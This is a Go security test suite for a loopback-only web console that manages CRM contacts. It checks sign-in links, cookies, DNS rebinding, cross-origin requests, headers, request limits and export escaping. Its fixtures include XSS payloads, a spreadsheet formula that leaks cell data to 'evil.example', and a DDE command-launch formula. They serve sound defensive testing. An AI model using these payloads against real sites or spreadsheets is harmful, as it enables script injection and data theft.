package console

import (
	"encoding/csv"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/gallra/gallra/dataverse"
	"github.com/gallra/gallra/internal/words"
)

// TestAttacks tries what the console has to withstand. Each of them fails without the protection that it is about.
func TestAttacks(t *testing.T) {
	w := newWorld(t, nil)
	w.run()
	w.serve(nil)
	for _, a := range []struct {
		name  string
		tried func(*testing.T, *world)
	}{
		{"nobody gets in without a link", nobodyGetsIn}, {"a link counts once", linkCountsOnce}, {"the session's cookie", sessionCookieIsShut}, {"idle", idleSignOut},
		{"DNS rebinding", rebinding}, {"cross-origin requests", crossOrigin}, {"headers", headers}, {"nothing inline", nothingInline}, {"large requests", largeRequests},
		{"nonsense addresses", nonsenseAddresses}, {"names stay in the pages", namesStay}, {"actions happen once", actionsHappenOnce},
		{"forms lead nowhere else", formsStayHere}, {"a message waits for its reader", messageWaits},
	} {
		t.Run(a.name, func(t *testing.T) {
			mine := *w
			mine.TB = t
			w.later.Store(0)
			mine.enter()
			a.tried(t, &mine)
		})
	}
}

// Every page but the sign-in is shut to whoever has no session.
func nobodyGetsIn(t *testing.T, w *world) {
	w.browser = &http.Client{}
	source, err := os.ReadFile("console.go")
	w.must(err)
	places := strings.NewReplacer("{$}", "", "{table}", "contact", "{id}", w.somebody().ID.String(), "{act}", "hold", "{job}", "read", "{file}", "x.html", "{name}", "report.html")
	routes := regexp.MustCompile(`\("(GET|POST) ([^"]+)", (?:c\.signedIn|c\.[a-z]|func)`).FindAllStringSubmatch(string(source), -1)
	if len(routes) < 50 {
		t.Fatalf("only %d routes were found: have they moved?", len(routes))
	}
	for _, m := range append(routes, []string{"", "GET", "/nowhere"}) {
		if strings.HasPrefix(m[2], "/start/") || strings.HasPrefix(m[2], "/assets/") {
			continue
		}
		if a := w.do(m[1], places.Replace(m[2]), url.Values{"confirm": {"yes"}, "once": {secret()}}, nil); a.status != http.StatusUnauthorized || strings.Contains(a.body, "Amy") {
			t.Errorf("%s %s answers %d", m[1], m[2], a.status)
		}
	}
	for _, token := range []string{"", "x", strings.Repeat("0", 64)} {
		if a := w.get("/start/" + token); a.status == http.StatusOK {
			t.Errorf("the token %q lets somebody in", token)
		}
	}
}

// A link counts once, and not for long.
func linkCountsOnce(t *testing.T, w *world) {
	link := strings.TrimPrefix(w.console.Link(), w.url)
	for i, want := range []int{http.StatusOK, http.StatusForbidden, http.StatusForbidden} {
		jar, _ := cookiejar.New(nil)
		w.browser = &http.Client{Jar: jar}
		if a := w.get(link); a.status != want {
			t.Errorf("use %d of the link answers %d, want %d", i+1, a.status, want)
		}
	}
	link = strings.TrimPrefix(w.console.Link(), w.url)
	for _, peek := range []struct{ method, header, value string }{{http.MethodHead, "X", ""}, {http.MethodGet, "Sec-Purpose", "prefetch"},
		{http.MethodGet, "Sec-Purpose", "prefetch;prerender"}, {http.MethodGet, "Purpose", "prefetch"}, {http.MethodOptions, "X", ""}, {http.MethodPost, "X", ""}} {
		w.browser = &http.Client{}
		if a := w.do(peek.method, link, nil, map[string]string{peek.header: peek.value}); a.status < 400 || a.header.Get("Set-Cookie") != "" {
			t.Errorf("%+v answers %d", peek, a.status)
		}
	}
	jar, _ := cookiejar.New(nil)
	w.browser = &http.Client{Jar: jar}
	if a := w.get(link); a.status != http.StatusOK {
		t.Errorf("a link that was looked at answers %d", a.status)
	}
	late := strings.TrimPrefix(w.console.Link(), w.url)
	w.later.Store(int64(11 * time.Minute))
	if a := w.get(late); a.status != http.StatusForbidden {
		t.Errorf("a link that expired answers %d", a.status)
	}
}

// The cookie is out of reach of scripts and of other sites.
func sessionCookieIsShut(t *testing.T, w *world) {
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	res, err := client.Get(w.console.Link())
	w.must(err)
	_ = res.Body.Close()
	all := res.Cookies()
	if len(all) != 1 {
		t.Fatalf("%d cookies", len(all))
	}
	if c := all[0]; !c.HttpOnly || c.SameSite != http.SameSiteStrictMode || c.MaxAge != 0 || !c.Expires.IsZero() || len(c.Value) < 32 {
		t.Errorf("the cookie is %s", c)
	}
}

// Whoever does not work is signed out, and what a page asks for by itself is no work.
func idleSignOut(t *testing.T, w *world) {
	w.later.Store(int64(20 * time.Minute))
	if a := w.get("/"); a.status != http.StatusOK {
		t.Fatalf("after 20 minutes: %d", a.status)
	}
	w.later.Store(int64(45 * time.Minute))
	if a := w.get("/progress/read"); a.status != http.StatusOK { // 25 minutes after the last work
		t.Fatalf("progress after 45 minutes: %d", a.status)
	}
	w.later.Store(int64(51 * time.Minute))
	if a := w.get("/"); a.status != http.StatusUnauthorized {
		t.Errorf("31 minutes after the last work the page answers %d", a.status)
	}
	w.enter()
	w.post("/leave", nil)
	if a := w.get("/"); a.status != http.StatusUnauthorized {
		t.Errorf("after signing out the page answers %d", a.status)
	}
}

// A name that somebody lets point at loopback is not the console's.
func rebinding(t *testing.T, w *world) {
	_, port, _ := net.SplitHostPort(strings.TrimPrefix(w.url, "http://"))
	for _, host := range []string{"evil.example", "evil.example:" + port, "127.0.0.1", "localhost", "127.0.0.1:1", "localhost.evil.example:" + port, ""} {
		if host == "" {
			continue
		}
		for _, path := range []string{"/", "/assets/console.js", strings.TrimPrefix(w.console.Link(), w.url)} {
			if a := w.do(http.MethodGet, path, nil, map[string]string{"Host": host}); a.status != http.StatusMisdirectedRequest || a.header.Get("Set-Cookie") != "" {
				t.Errorf("Host %q, %s: %d", host, path, a.status)
			}
		}
	}
	for _, host := range []string{"localhost:" + port, "127.0.0.1:" + port} {
		if a := w.do(http.MethodGet, "/assets/console.css", nil, map[string]string{"Host": host}); a.status != http.StatusOK {
			t.Errorf("Host %q: %d", host, a.status)
		}
	}
}

// Another site, or another port of loopback, makes nobody's browser do anything, even where the cookie went along.
func crossOrigin(t *testing.T, w *world) {
	id := w.somebody().ID
	form := url.Values{"reason": {"attack"}, "confirm": {"yes"}, "once": {"1"}}
	for name, header := range map[string]map[string]string{
		"cross-site":       {"Sec-Fetch-Site": "cross-site"},
		"another port":     {"Sec-Fetch-Site": "same-site"},
		"an old browser":   {"Origin": "http://evil.example"},
		"a sandboxed page": {"Origin": "null"},
	} {
		if a := w.do(http.MethodPost, personPath("contact", id)+"/hold", form, header); a.status != http.StatusForbidden {
			t.Errorf("%s: %d", name, a.status)
		}
	}
	if w.row(id, "gallra_legalhold").Bool("gallra_legalhold") {
		t.Error("the attack set a legal hold")
	}
	for _, site := range []string{"cross-site", "same-site"} {
		for _, path := range []string{"/people/export.csv", "/people/rows", "/assets/console.js"} {
			if a := w.do(http.MethodGet, path, nil, map[string]string{"Sec-Fetch-Site": site, "Sec-Fetch-Mode": "no-cors"}); a.status != http.StatusForbidden {
				t.Errorf("%s %s: %d", site, path, a.status)
			}
		}
	}
}

// Every answer, whatever became of the request, forbids the browser what the pages never need.
func headers(t *testing.T, w *world) {
	want := map[string]string{
		"Referrer-Policy": "no-referrer", "X-Content-Type-Options": "nosniff", "Cache-Control": "no-store", "X-Frame-Options": "DENY",
		"Cross-Origin-Resource-Policy": "same-origin", "Cross-Origin-Opener-Policy": "same-origin",
	}
	for _, path := range []string{"/", "/people", "/people/export.csv", "/assets/console.css", "/nowhere", "/start/wrong", "/people?sort=wrong", "/progress/read"} {
		a := w.get(path)
		for name, value := range want {
			if a.header.Get(name) != value {
				t.Errorf("%s: %s is %q", path, name, a.header.Get(name))
			}
		}
		policy := a.header.Get("Content-Security-Policy")
		for _, part := range []string{"default-src 'none'", "script-src 'self'", "style-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "form-action 'self'"} {
			if !strings.Contains(policy, part) {
				t.Errorf("%s: the content policy lacks %s", path, part)
			}
		}
		if strings.Contains(policy, "unsafe") {
			t.Errorf("%s: %s", path, policy)
		}
	}
}

// inline is what a strict content policy would refuse.
var inline = regexp.MustCompile(`(?i)<style|<script(?:>|[^>]*[^>]>[^<])|\sstyle=|\son[a-z]+=|javascript:`)

func nothingInline(t *testing.T, w *world) {
	p := w.somebody()
	for _, path := range []string{"/", "/?by=owner", "/people", personPath("contact", p.ID), personPath("contact", p.ID) + "/forecast", "/policy?try=contact/closed-opportunity", "/run", "/ledger", "/health", "/nowhere", "/start/wrong"} {
		if found := inline.FindString(w.get(path).body); found != "" {
			t.Errorf("%s holds %q", path, found)
		}
	}
}

// The console listens where nobody else can reach it, and nowhere else.
func TestOnlyLoopback(t *testing.T) {
	for _, address := range []string{"0.0.0.0:0", ":0", "[::]:0", "192.0.2.1:0", "example.com:0", "nonsense"} {
		l, err := Listen(address)
		if err == nil {
			_ = l.Close()
			t.Errorf("it listens on %s", address)
		}
	}
	for _, address := range []string{"127.0.0.1:0", "localhost:0"} {
		l, err := Listen(address)
		if err != nil {
			t.Errorf("%s: %v", address, err)
			continue
		}
		_ = l.Close()
	}
}

// A request is bounded: what is larger than any form is not read.
func largeRequests(t *testing.T, w *world) {
	large := url.Values{"q": {strings.Repeat("x", 2<<20)}}
	if a := w.post("/people/search", large); a.status != http.StatusRequestEntityTooLarge {
		t.Errorf("2 MB of a search answer %d", a.status)
	}
	id := w.somebody().ID
	if a := w.post(personPath("contact", id)+"/hold", url.Values{"reason": {strings.Repeat("x", 2<<20)}, "confirm": {"yes"}, "once": {"1"}}); a.status != http.StatusRequestEntityTooLarge {
		t.Errorf("2 MB of a reason answer %d", a.status)
	}
}

// Addresses that no page makes are refused and break nothing.
func nonsenseAddresses(t *testing.T, w *world) {
	for path, want := range map[string]int{
		"/people?sort=wrong": 400, "/people?from=yesterday": 400, "/people?owner=me": 400, "/people?state=x": 400, "/people?at=-5": 200, "/people?at=99999999": 200,
		"/people?table=secret": 200, "/people?ground=nothing": 200, "/people?owner=00000000-0000-0000-0000-0000000000ff": 200,
		"/person/contact/not-an-id": 404, "/person/systemuser/00000000-0000-0000-0000-0000000000ff": 404, "/person/contact/00000000-0000-0000-0000-0000000000ff": 404,
		"/policy?try=contact/nothing": 200, "/policy/file?try=contact/nothing": 400, "/policy/file?try=contact/primary-contact": 400,
		"/ledger?kind=nothing": 200, "/ledger?run=nothing": 200, "/ledger?at=99999999999999999999": 200, "/ledger?at=-7": 200, "/ledger?row=x": 200,
		"/assets/": 404, "/assets/../session.go": 404, "/progress/nothing": 404, "/run?x=%00": 200,
	} {
		if a := w.get(path); a.status != want {
			t.Errorf("%s answers %d, want %d", path, a.status, want)
		}
	}
}

// hostile are names that somebody put into a web form.
var hostile = []string{
	`<script>window.pwned=1</script>`, `"><img src=x onerror="window.pwned=1">`, `</title></svg><svg onload=window.pwned=1>`, `{{.}} ${7*7} %s %!d`,
	`=HYPERLINK("http://evil.example?"&A1)`, `@SUM(1+1)*cmd|'/c calc'!A0`, "+1+1", "-2+3", "\t=1+1", "\u202egnp.exe", "a[31mred\r\nSet-Cookie: x=y", `javascript:alert(1)`, "＝1+1",
}

// hostileWorld has people and owners with such names.
func hostileWorld(t *testing.T) *world {
	w := newWorld(t, nil)
	for _, name := range hostile {
		w.contact(map[string]any{"lastname": name, "emailaddress1": "x" + secret()[:6] + "@example.com"})
	}
	users, err := w.client.Get(w.Context(), "contact", w.contact(map[string]any{"lastname": "Someone"}), dataverse.Query{Select: []string{"_ownerid_value"}})
	w.must(err)
	w.change(http.MethodPatch, "systemusers("+users.ID("_ownerid_value").String()+")", map[string]any{"firstname": hostile[0], "lastname": hostile[1]})
	w.run()
	w.serve(nil)
	w.enter()
	return w
}

// Hostile names are text everywhere: in pages, drawings and files.
func TestHostileNamesStayText(t *testing.T) {
	w := hostileWorld(t)
	b := w.console.reading()
	seen := 0
	paths := []string{"/", "/?by=owner", "/people", "/people?sort=name", "/policy?try=contact/closed-opportunity"}
	for i := range b.Persons {
		if strings.ContainsAny(b.Persons[i].Name, `<"{=@+`) {
			seen++
			paths = append(paths, personPath(b.TableOf(&b.Persons[i]), b.Persons[i].ID))
		}
	}
	for _, path := range slices.Clone(paths[5:]) {
		paths = append(paths, path+"/erase")
	}
	paths = append(paths, "/people?state=everyone", "/ahead", "/owners")
	w.post("/ahead", url.Values{"day": {(b.AsOf + 70).String()}})
	w.console.job("ahead").wait(t.Context())
	w.post("/owners/look", nil)
	w.console.job("owners").wait(t.Context())
	if seen < 6 {
		t.Fatalf("only %d hostile names are in the plan", seen)
	}
	pages := map[string]answer{
		"many are chosen": w.post("/people/choose", url.Values{"act": {"hold"}, "all": {"yes"}, "list": {"state=everyone"}}), "a search of the CRM": w.post("/people/find", url.Values{"address": {"script"}}),
		"a hostile reason": w.post(paths[5]+"/hold", url.Values{"reason": {hostile[0]}}),
	}
	for _, path := range paths {
		pages[path] = w.get(path)
	}
	for path, a := range pages {
		for _, bad := range []string{"<script>window", "<img", "<svg onload", "\u202e", "\x1b"} {
			if strings.Contains(a.body, bad) {
				t.Errorf("%s holds %q", path, bad)
			}
		}
		if a.status != http.StatusOK {
			t.Errorf("%s: %d", path, a.status)
		}
	}
	if text := w.get("/?by=owner").body; !strings.Contains(text, "&lt;script&gt;") {
		t.Error("the owner's hostile name is not in the drawing at all")
	}

	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(w.get("/people/export.csv?state=everyone").body, "\ufeff"))).ReadAll()
	w.must(err)
	guardedCells := 0
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell == "" {
				continue
			}
			if strings.ContainsRune("=+-@\t\r＝", []rune(cell)[0]) {
				t.Errorf("a spreadsheet would take %q for a formula", cell)
			}
			if cell[0] == '\'' {
				guardedCells++
			}
		}
	}
	if guardedCells < 5 {
		t.Errorf("only %d cells were guarded", guardedCells)
	}

	book, err := excelize.OpenReader(strings.NewReader(w.get("/people/export.xlsx?state=everyone").body))
	w.must(err)
	defer func() { _ = book.Close() }()
	lines, err := book.GetRows("people")
	w.must(err)
	if len(lines) != len(b.Persons)+1 {
		t.Fatalf("%d rows for %d persons", len(lines)-1, len(b.Persons))
	}
	named := 0
	for n := range lines {
		for _, column := range []string{"C", "D", "E", "F", "L"} {
			cell := column + strconv.Itoa(n+1)
			if formula, err := book.GetCellFormula("people", cell); err != nil || formula != "" {
				t.Errorf("%s is a formula: %q %v", cell, formula, err)
			}
			if kind, err := book.GetCellType("people", cell); err == nil && kind == excelize.CellTypeFormula {
				t.Errorf("%s is of the type formula", cell)
			}
		}
		if len(lines[n]) > 2 && strings.HasPrefix(lines[n][2], "=HYPERLINK") {
			named++
		}
	}
	if named != 1 {
		t.Error("the name that looks like a formula is not in the workbook")
	}
	if style, err := book.GetCellType("people", "H2"); err != nil || style == excelize.CellTypeSharedString || style == excelize.CellTypeInlineString {
		t.Errorf("a date is no date: %v %v", style, err)
	}
}

// Names are nowhere but in the pages: not in the log, not in addresses or titles, not in file names, and not on disk.
func namesStay(t *testing.T, w *world) {
	p := w.somebody()
	a := w.post("/people/search", url.Values{"q": {p.Name}})
	if a.status != http.StatusOK || !strings.Contains(a.body, p.Name) {
		t.Fatalf("the search answers %d", a.status)
	}
	person := w.get(personPath("contact", p.ID))
	w.post(personPath("contact", p.ID)+"/hold", url.Values{"reason": {"Quarrel with " + p.Name}, "confirm": {"yes"}, "once": {onceOf(t, w.confirmation(p, "hold"))}})
	w.post("/people/find", url.Values{"address": {p.Email}})
	export := w.get("/people/export.csv?s=" + strings.TrimPrefix(a.path, "/people?s="))
	w.get("/people/export.xlsx")
	words := append(strings.Fields(p.Name), p.Email)
	for _, word := range words {
		for where, text := range map[string]string{
			"the log": w.log.String(), "an address": a.path, "a title": titleOf(person.body) + titleOf(a.body), "a file's name": export.header.Get("Content-Disposition"),
		} {
			if strings.Contains(strings.ToLower(text), strings.ToLower(word)) {
				t.Errorf("%s holds %q", where, word)
			}
		}
	}
	if !strings.Contains(w.log.String(), "GET /person/{table}/{id}") {
		t.Error("the log does not even hold the routes: this test looks at nothing")
	}
	err := filepath.WalkDir(w.dir, func(name string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		text, err := os.ReadFile(name)
		if err != nil {
			return err
		}
		for _, word := range words {
			if strings.Contains(string(text), word) {
				t.Errorf("%s holds %q", name, word)
			}
		}
		return nil
	})
	w.must(err)
}

func titleOf(page string) string {
	_, rest, _ := strings.Cut(page, "<title>")
	title, _, _ := strings.Cut(rest, "</title>")
	return title
}

// A form says once what it says: a second request with the same key finds what the first one did.
func actionsHappenOnce(t *testing.T, w *world) {
	p := w.somebody()
	path := personPath("contact", p.ID)
	confirm := w.confirmation(p, "extend")
	if w.row(p.ID, "gallra_retainuntil").Text("gallra_retainuntil") != "" {
		t.Fatal("asking back has written already")
	}
	form := url.Values{"reason": {"Agreed on the phone"}, "until": {"2026-06-01"}, "confirm": {"yes"}, "once": {onceOf(t, confirm)}}
	if a := w.post(path+"/extend", form); a.status != http.StatusOK || !strings.Contains(a.body, words.In(subject, "en").T("act.extend.done")) {
		t.Fatalf("%d", a.status)
	}
	w.change(http.MethodPatch, "contacts("+p.ID.String()+")", map[string]any{"gallra_retainuntil": nil, "gallra_retainreason": nil})
	if a := w.post(path+"/extend", form); a.status != http.StatusOK || a.path != path {
		t.Errorf("again: %d %s", a.status, a.path)
	}
	if w.row(p.ID, "gallra_retainuntil").Text("gallra_retainuntil") != "" {
		t.Error("the second request did it again")
	}
	form.Set("once", "")
	if a := w.post(path+"/extend", form); a.status != http.StatusBadRequest {
		t.Errorf("without a key: %d", a.status)
	}
	for reason, until := range map[string]string{"": "2026-06-01", "fine": "2025-01-01", "fine too": "2099-01-01", "and this": "soon"} {
		form = url.Values{"reason": {reason}, "until": {until}, "confirm": {"yes"}, "once": {secret()}}
		w.post(path+"/extend", form)
	}
	if got := w.row(p.ID, "gallra_retainuntil").Text("gallra_retainuntil"); got != "" {
		t.Errorf("an extension that does not count was written: %s", got)
	}
}

// confirmation is the page that asks back.
func (w *world) confirmation(p human, act string) string {
	w.Helper()
	a := w.post(personPath("contact", p.ID)+"/"+act, url.Values{"reason": {"Agreed on the phone"}, "until": {"2026-06-01"}})
	if a.status != http.StatusOK || !strings.Contains(a.body, `name="confirm" value="yes"`) {
		w.Fatalf("%s is not asked back: %d", act, a.status)
	}
	return a.body
}
